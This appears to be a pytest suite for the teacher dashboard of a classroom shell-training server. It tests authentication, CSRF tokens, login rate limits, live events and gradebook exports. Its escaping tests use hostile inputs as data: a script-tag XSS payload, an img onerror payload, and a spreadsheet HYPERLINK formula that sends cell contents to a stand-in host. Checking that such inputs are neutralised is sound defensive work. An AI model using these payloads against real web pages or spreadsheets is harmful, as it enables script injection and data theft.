"""The teacher's dashboard of `shelldojo serve` (issue 18): authentication (basic auth, the login
form and its cookie, CSRF tokens, the login-attempt limit), the live grid, server-sent events,
escaping of untrusted names and command lines, and exports in `shelldojo grade`'s formats."""
from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

aiohttp = pytest.importorskip("aiohttp")

from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from shelldojo.challenges import grade_report
from shelldojo.challenges.grader import StudentOutcome, grade_one
from shelldojo.shell.serve import exports
from shelldojo.shell.serve.auth import FAILURE_WINDOW, MAX_FAILURES, TeacherAuth
from shelldojo.shell.serve.classroom import ClassRoom, StudentState
from shelldojo.shell.serve.dashboard import KEEPALIVE_S, add_dashboard_routes
from shelldojo.shell.serve.web import start_web

PW = "s3cret teacher"
CODE = "blue-fox-42"
STATIC = Path(__file__).resolve().parent.parent / "shell" / "serve" / "static"
HOSTILE = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
WAIT = 60.0


def run(coro: Any) -> Any:
    return asyncio.run(asyncio.wait_for(coro, 240))


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def room(tmp: Path) -> ClassRoom:
    """A class of two students (ann: solved the first challenge, on the second with 2 hints;
    bob: skipped the first, connected), built from the class room's own state objects."""
    r = ClassRoom([], str(tmp / "data"), class_code=CODE)
    pack = r.packs[0]
    c1, c2 = pack.challenges[0].id, pack.challenges[1].id
    ann = StudentState("ann", pack=pack.id, challenge=c2, solved={f"{pack.id}/{c1}"},
                       hints={f"{pack.id}/{c2}": 2}, last_active=1.0)
    ann.recent.append({"pack": pack.id, "challenge": c1, "command": "pwd", "status": 0})
    ann.recent.append({"pack": pack.id, "challenge": c2, "command": "cat nope", "status": 1})
    bob = StudentState("bob", pack=pack.id, challenge=c2, skipped={f"{pack.id}/{c1}"}, connected=True)
    r.state = {"ann": ann, "bob": bob}
    return r


def hostile_room(tmp: Path) -> ClassRoom:
    """Names and commands no valid login can have: the dashboard must escape them anyway."""
    r = ClassRoom([], str(tmp / "data"), class_code=CODE)
    pack = r.packs[0]
    c1 = pack.challenges[0].id
    evil = StudentState(HOSTILE, pack=pack.id, challenge=c1)
    evil.recent.append({"pack": pack.id, "challenge": c1, "command": "echo '<img src=x onerror=alert(2)>'",
                        "status": 0})
    r.state = {HOSTILE: evil, FORMULA: StudentState(FORMULA, solved={f"{pack.id}/{c1}"})}
    return r


async def client(r: ClassRoom, clock: Clock | None = None) -> TestClient:
    app = web.Application()
    add_dashboard_routes(app, r, PW, teacher_auth=TeacherAuth(PW, clock=clock or Clock()))
    c = TestClient(TestServer(app))
    await c.start_server()
    return c


async def form_login(c: TestClient, password: str = PW) -> aiohttp.ClientResponse:
    r = await c.get("/teacher/login")
    token = re.search(r'name="login" value="([^"]+)"', await r.text()).group(1)
    return await c.post("/teacher/login", data={"login": token, "password": password}, allow_redirects=False)


def basic(user: str, password: str) -> dict[str, str]:
    return {"Authorization": aiohttp.encode_basic_auth(user, password)}


BASIC = basic("teacher", PW)
GUARDED = ("/teacher", "/teacher/state.json", "/teacher/events", "/teacher/export.json", "/teacher/export.xml",
           "/teacher/export.csv")


# ----------------------------------------------------------------------------- authentication
def test_the_dashboard_needs_the_teacher(tmp_path: Path) -> None:
    async def go() -> None:
        c = await client(room(tmp_path))
        try:
            for path in GUARDED:
                r = await c.get(path)
                assert r.status == 401, path
                assert r.headers["WWW-Authenticate"].startswith("Basic ")
                assert "ann" not in await r.text()
            r = await c.post("/teacher/logout", data={"csrf": "x"})
            assert r.status == 401
            for user, pw in (("teacher", "wrong"), ("admin", PW), ("teacher", "")):
                r = await c.get("/teacher", headers=basic(user, pw))
                assert r.status == 401, (user, pw)
            r = await c.get("/teacher", headers={"Authorization": "Basic !!!not-base64"})
            assert r.status == 401
            r = await c.get("/teacher", headers=BASIC)
            assert r.status == 200 and "ann" in await r.text()
            r = await c.get("/teacher/state.json", headers=BASIC)
            assert r.status == 200 and r.content_type == "application/json"
        finally:
            await c.close()
    run(go())


def test_form_login_gives_a_strict_httponly_cookie(tmp_path: Path) -> None:
    async def go() -> None:
        c = await client(room(tmp_path))
        try:
            r = await form_login(c, "not it")
            assert r.status == 401 and "Wrong password." in await r.text()
            assert "shelldojo_teacher" not in r.cookies
            r = await form_login(c)
            assert r.status == 303 and r.headers["Location"] == "/teacher"
            cookie = next(v for k, v in r.headers.items() if k == "Set-Cookie" and "shelldojo_teacher=" in v)
            assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/teacher" in cookie
            token = r.cookies["shelldojo_teacher"].value
            assert len(token) >= 40
            r = await c.get("/teacher")
            text = await r.text()
            assert r.status == 200 and "bob" in text
            assert "script-src 'self'" in r.headers["Content-Security-Policy"]
            # the login form is a double-submit: a post without its token (a forged form) is refused
            c.session.cookie_jar.clear()
            r = await c.post("/teacher/login", data={"password": PW}, allow_redirects=False)
            assert r.status == 403 and "shelldojo_teacher" not in r.cookies
            r = await c.get("/teacher")
            assert r.status == 401
        finally:
            await c.close()
    run(go())


def test_every_post_needs_the_sessions_csrf_token(tmp_path: Path) -> None:
    async def go() -> None:
        c = await client(room(tmp_path))
        try:
            await form_login(c)
            page = await (await c.get("/teacher")).text()
            csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
            for data in ({}, {"csrf": ""}, {"csrf": csrf[:-1] + ("A" if csrf[-1] != "A" else "B")}):
                r = await c.post("/teacher/logout", data=data, allow_redirects=False)
                assert r.status == 403, data
            assert (await c.get("/teacher")).status == 200      # still logged in
            r = await c.post("/teacher/logout", data={"csrf": csrf}, allow_redirects=False)
            assert r.status == 303
            assert (await c.get("/teacher")).status == 401      # the session is gone
            # basic auth: the page's token works, a guessed one does not
            page = await (await c.get("/teacher", headers=BASIC)).text()
            csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
            assert (await c.post("/teacher/logout", data={"csrf": "guess"}, headers=BASIC)).status == 403
            r = await c.post("/teacher/logout", data={"csrf": csrf}, headers=BASIC, allow_redirects=False)
            assert r.status == 303
        finally:
            await c.close()
    run(go())


def test_failed_logins_are_limited_per_address(tmp_path: Path) -> None:
    async def go() -> None:
        clock = Clock()
        c = await client(room(tmp_path), clock)
        try:
            for _ in range(MAX_FAILURES // 2):
                assert (await form_login(c, "guess")).status == 401
                assert (await c.get("/teacher", headers=basic("teacher", "guess"))).status == 401
            # now even the right password is refused, by both ways, until the window passes
            r = await form_login(c)
            assert r.status == 429 and "Retry-After" in r.headers
            assert (await c.get("/teacher", headers=BASIC)).status == 429
            clock.now += FAILURE_WINDOW + 1
            assert (await c.get("/teacher", headers=BASIC)).status == 200
            assert (await form_login(c)).status == 303
        finally:
            await c.close()
    run(go())


def test_sessions_expire() -> None:
    clock = Clock()
    teacher = TeacherAuth(PW, clock=clock)
    s = teacher.open_session()
    assert teacher.session(s.token) is s
    clock.now += 13 * 3600
    assert teacher.session(s.token) is None
    assert teacher.session("") is None and teacher.session("made-up") is None
    assert teacher.password_ok(PW) and not teacher.password_ok(PW + " ") and not teacher.password_ok("")


# ----------------------------------------------------------------------------- the grid
def test_the_grid_shows_each_student_and_challenge(tmp_path: Path) -> None:
    r = room(tmp_path)
    pack = r.packs[0]
    c1, c2, c3 = (c.id for c in pack.challenges[:3])

    async def go() -> None:
        c = await client(r)
        try:
            state = await (await c.get("/teacher/state.json", headers=BASIC)).json()
            page = await (await c.get("/teacher", headers=BASIC)).text()
        finally:
            await c.close()
        assert [p["id"] for p in state["packs"]] == [p.id for p in r.packs]
        assert [x["id"] for x in state["packs"][0]["challenges"]] == [x.id for x in pack.challenges]
        ann, bob = state["students"]
        assert ann["name"] == "ann" and not ann["connected"] and bob["connected"]
        cells = ann["cells"][pack.id]
        assert cells[c1] == {"state": "solved", "hints": 0}
        assert cells[c2] == {"state": "working", "hints": 2}
        assert c3 not in cells      # untouched
        assert bob["cells"][pack.id][c1]["state"] == "skipped"
        assert bob["cells"][pack.id][c2]["state"] == "working"
        assert ann["current"] == {"pack": pack.id, "challenge": c2}
        assert [(x["command"], x["status"]) for x in ann["recent"]] == [("pwd", 0), ("cat nope", 1)]
        # the page as the server draws it (before the script takes over)
        row = re.search(r"<tr><th class=\"student\" title=\"ann\">.*?</tr>", page).group(0)
        assert re.findall(r"<td[^>]*>", row)[:3] == ['<td class="solved">', '<td class="working current">', '<td class="">']
        assert '<span class="hints">2h</span>' in row
        assert "$ cat nope   [exit 1]" in page
        for fmt in ("json", "xml", "csv"):
            assert f'href="/teacher/export.{fmt}?pack={pack.id}"' in page
        assert not re.search(r"https?://", page)
    run(go())


def test_untrusted_names_and_commands_are_escaped_everywhere(tmp_path: Path) -> None:
    r = hostile_room(tmp_path)
    pack = r.packs[0]

    async def go() -> dict[str, str]:
        c = await client(r)
        try:
            got = {"page": await (await c.get("/teacher", headers=BASIC)).text()}
            for fmt in ("json", "xml", "csv"):
                resp = await c.get(f"/teacher/export.{fmt}", headers=BASIC)
                assert resp.status == 200 and "attachment" in resp.headers["Content-Disposition"]
                got[fmt] = await resp.text()
            return got
        finally:
            await c.close()

    got = run(go())
    page = got["page"]
    assert HOSTILE not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert "&quot;http://evil.example/?x=&quot;&amp;A1" in page   # escaped inside title="..."
    names = {s["student"] for s in json.loads(got["json"])["students"]}
    assert names == {HOSTILE, FORMULA}
    suites = ET.fromstring(got["xml"].split("\n", 1)[1])
    assert {s.get("name") for s in suites} == {HOSTILE, FORMULA}
    assert "<script>" not in got["xml"]
    rows = list(csv.reader(io.StringIO(got["csv"])))
    assert rows[0][:3] == ["student", "score", "max_score"]
    assert {row[0] for row in rows[1:]} == {"'" + FORMULA, HOSTILE}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert exports.safe_cell("-1+2") == "'-1+2" and exports.safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert exports.safe_cell("+x") == "'+x" and exports.safe_cell("\t=1") == "'\t=1" and exports.safe_cell(3) == "3"
    assert pack.id in got["json"]


def test_the_script_never_writes_html_from_data() -> None:
    js = (STATIC / "dashboard.js").read_text()
    assert ".innerHTML" not in js and ".outerHTML" not in js and "insertAdjacentHTML(" not in js
    assert "document.write" not in js and "eval(" not in js
    assert "textContent" in js
    for name in ("dashboard.html", "login.html", "dashboard.css", "dashboard.js"):
        assert not re.search(r"https?://", (STATIC / name).read_text()), name


# ----------------------------------------------------------------------------- exports
def _paths(value: Any, at: str = "") -> set[str]:
    """Every key path of a JSON document (`students[].challenges[].points`) with its value's type."""
    if isinstance(value, dict):
        return {p for k, v in value.items() for p in _paths(v, f"{at}.{k}")} | {at + ":dict"}
    if isinstance(value, list):
        return {p for v in value for p in _paths(v, at + "[]")} | {at + ":list"}
    return {f"{at}:{'str' if value is None else type(value).__name__}"}  # error: null or a string


def test_exports_are_what_shelldojo_grade_writes(tmp_path: Path) -> None:
    """ann solved the first challenge (and typed its solution): the grader, given that answer,
    writes the same JSON (keys, verdicts, points, variants) and JUnit shape."""
    r = room(tmp_path)
    pack = r.packs[0]
    first = pack.challenges[0]
    ann = r.state["ann"]
    ann.recent.clear()
    for line in first.solution.splitlines():
        ann.recent.append({"pack": pack.id, "challenge": first.id, "command": line, "status": 0})
    graded = [grade_one(first, "ann", first.solution, timeout=30.0)]
    assert graded[0].passed
    graded += [grade_one(c, "ann", None, timeout=30.0) for c in pack.challenges[1:]]
    grade_json = json.loads(grade_report.to_json(pack.id, [StudentOutcome("ann", 1 * first.points,
                                                                           sum(c.points for c in pack.challenges),
                                                                           graded)], timing=False))
    del r.state["bob"]

    async def go() -> dict[str, str]:
        c = await client(r)
        try:
            return {fmt: await (await c.get(f"/teacher/export.{fmt}?pack={pack.id}", headers=BASIC)).text()
                    for fmt in ("json", "xml", "csv")}
        finally:
            await c.close()

    got = run(go())
    ours = json.loads(got["json"])
    mine_paths, grade_paths = _paths(ours), _paths(grade_json)
    assert mine_paths <= grade_paths
    # what the grader has beyond: the checks it ran (the trainer's verdict has none) and the
    # values of challenges' variables (a pack's first challenges may have none)
    assert all(".checks[]" in p or ".variant." in p for p in grade_paths - mine_paths), grade_paths - mine_paths
    assert ours["version"] == 1 and ours["pack"] == pack.id and ours["max_score"] == grade_json["max_score"]
    mine, theirs = ours["students"][0], grade_json["students"][0]
    assert (mine["student"], mine["score"], mine["max_score"]) == (theirs["student"], theirs["score"],
                                                                   theirs["max_score"])
    for a, b in zip(mine["challenges"], theirs["challenges"], strict=True):
        assert (a["challenge"], a["title"], a["points"], a["max_points"], a["passed"], a["variant"]) == \
               (b["challenge"], b["title"], b["points"], b["max_points"], b["passed"], b["variant"])
    assert [s["command"] for s in mine["challenges"][0]["transcript"]] == first.solution.splitlines()
    assert mine["challenges"][1]["error"] == "not solved yet"      # ann is on it
    assert mine["challenges"][2]["error"] == "no answer submitted"  # as the grader says
    # JUnit: the grader's writer, so the same elements and attributes
    suite = ET.fromstring(got["xml"].split("\n", 1)[1])[0]
    junit = ET.fromstring(grade_report.to_junit(pack.id, [StudentOutcome("ann", 1, 1, graded)]).split("\n", 1)[1])[0]
    assert set(suite.attrib) == set(junit.attrib) and len(suite) == len(junit)
    assert [(t.get("name"), [x.tag for x in t]) for t in suite][:1] == [(first.id, [])]
    # CSV: a gradebook row per student
    rows = list(csv.reader(io.StringIO(got["csv"])))
    assert rows[0] == ["student", "score", "max_score", *(c.id for c in pack.challenges), "hints_used"]
    assert rows[1] == ["ann", str(first.points), str(sum(c.points for c in pack.challenges)),
                       str(first.points), *("0" * (len(pack.challenges) - 1)), "2"]

    async def unknown() -> int:
        c = await client(r)
        try:
            return (await c.get("/teacher/export.json?pack=nope", headers=BASIC)).status
        finally:
            await c.close()
    assert run(unknown()) == 404


# ----------------------------------------------------------------------------- live
def test_server_sent_events_tell_when_a_student_solves(tmp_path: Path) -> None:
    """A real student over the WebSocket solves the first challenge; the dashboard's event
    stream says so, and the grid then shows it."""
    async def go() -> None:
        r = ClassRoom([], str(tmp_path / "data"), class_code=CODE)
        first = r.packs[0].challenges[0]
        runner, port = await start_web(r, "127.0.0.1", 0, teacher_password=PW)
        url = f"http://127.0.0.1:{port}"
        async with aiohttp.ClientSession() as http:
            try:
                events = await http.get(url + "/teacher/events", headers=BASIC)
                assert events.status == 200 and events.content_type == "text/event-stream"
                assert await events.content.readline() == b": connected\n"
                ws = await http.ws_connect(url + "/ws")
                await ws.send_str(json.dumps({"type": "login", "name": "ann", "code": CODE, "cols": 100, "rows": 30}))
                for line in first.solution.splitlines():
                    await ws.send_bytes(line.encode() + b"\r")
                seen: list[dict[str, Any]] = []

                async def until_solved() -> None:
                    while not any(e["type"] == "solved" for e in seen):
                        raw = await events.content.readline()
                        if raw.startswith(b"data: "):
                            seen.append(json.loads(raw[6:]))

                reader = asyncio.create_task(_drain(ws))
                await asyncio.wait_for(until_solved(), WAIT)
                kinds = [e["type"] for e in seen]
                assert kinds[0] == "joined" and "command" in kinds
                solved = next(e for e in seen if e["type"] == "solved")
                assert solved["name"] == "ann" and solved["challenge"] == f"{r.packs[0].id}/{first.id}"
                state = await (await http.get(url + "/teacher/state.json", headers=BASIC)).json()
                ann = state["students"][0]
                assert ann["connected"] and ann["cells"][r.packs[0].id][first.id]["state"] == "solved"
                assert [x["command"] for x in ann["recent"]] == first.solution.splitlines()
                await ws.close()
                reader.cancel()
            finally:
                for seat in list(r.seats.values()):
                    seat.stop()
                # shutting down ends the open event stream at once, not at its next keep-alive
                await asyncio.wait_for(runner.cleanup(), KEEPALIVE_S / 2)
            assert not r.queues
            await asyncio.wait_for(events.content.read(), WAIT)
            events.close()
    run(go())


async def _drain(ws: Any) -> None:
    """Read the terminal's output (a real browser would draw it)."""
    async for _ in ws:
        pass


def test_exported_transcripts_keep_the_graders_bounds(tmp_path: Path) -> None:
    pack = ClassRoom([], str(tmp_path / "data"), class_code=CODE).packs[0]
    c1 = pack.challenges[0].id
    long_line = "echo " + "x" * 10_000
    lines = [{"pack": pack.id, "challenge": c1, "command": long_line, "status": 0}] * 40
    lines.append({"pack": pack.id, "challenge": c1, "command": "false", "status": True})   # not an int status
    out = exports.outcome(pack, exports.StudentResults("ann", {c1: "skipped"}, commands=lines))
    first = out.challenges[0]
    assert first.error == "skipped" and not first.passed and first.points == 0
    assert first.transcript[0].command.endswith("… (truncated)") and len(first.transcript[0].command) < 4200
    assert len(first.transcript) == 16 and first.transcript_omitted == 25   # 64 KiB an answer
    assert all(not c.transcript for c in out.challenges[1:])


def test_students_of_another_process_come_from_the_class_store(tmp_path: Path) -> None:
    """Two `shelldojo serve` processes share one store: carol works on the other one; this
    dashboard lists her (not connected here) with her progress, and exports her results."""
    from shelldojo.challenges.stores import open_student_store

    r = room(tmp_path)
    pack = r.packs[0]
    c1, c2 = pack.challenges[0].id, pack.challenges[1].id
    carol = open_student_store("carol", data_dir=r.data_dir, url=r.store_url)
    carol.set_status(pack.id, c1, "done")
    carol.use_hint(pack.id, c2)
    carol.set_current(pack.id, c2)

    async def go() -> tuple[dict[str, Any], str]:
        c = await client(r)
        try:
            state = await (await c.get("/teacher/state.json", headers=BASIC)).json()
            return state, await (await c.get("/teacher/export.csv", headers=BASIC)).text()
        finally:
            await c.close()

    state, gradebook = run(go())
    assert [s["name"] for s in state["students"]] == ["ann", "bob", "carol"]
    theirs = state["students"][2]
    assert not theirs["connected"] and theirs["cells"][pack.id][c1]["state"] == "solved"
    assert theirs["cells"][pack.id][c2] == {"state": "working", "hints": 1}
    assert next(row for row in csv.reader(io.StringIO(gradebook)) if row[0] == "carol")[3:5] == ["1", "0"]
